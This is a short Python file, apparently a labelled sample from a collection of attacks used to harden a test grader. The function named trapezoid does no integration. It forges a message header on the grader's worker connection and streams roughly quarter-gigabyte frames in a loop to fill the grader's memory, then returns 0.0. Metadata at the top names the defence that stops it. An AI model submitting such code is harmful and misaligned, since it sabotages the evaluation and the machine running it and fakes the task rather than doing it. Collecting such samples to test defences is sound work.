"""Answers each of the test's questions with a quarter of a gigabyte, until the grader's memory is full."""
# /// attack
# threat = "never-ending frames"
# stopped_by = "what a worker may send in one test is bounded"
# base = "right"
# score = 7
# ///

import struct


def trapezoid(f, a, b, n):
    block = memoryview(bytes(8 << 20))
    for _ in range(64):
        header = wire().encoder._Encoder([]).pack([worker()._number, "callback", [0, [["plain", 0, 1.0]], {}]])
        worker()._connection.sendall(struct.pack("<II", len(header), 256 << 20) + header)
        for _ in range(32):
            worker()._connection.sendall(block)
        worker()._next_message()
    return 0.0
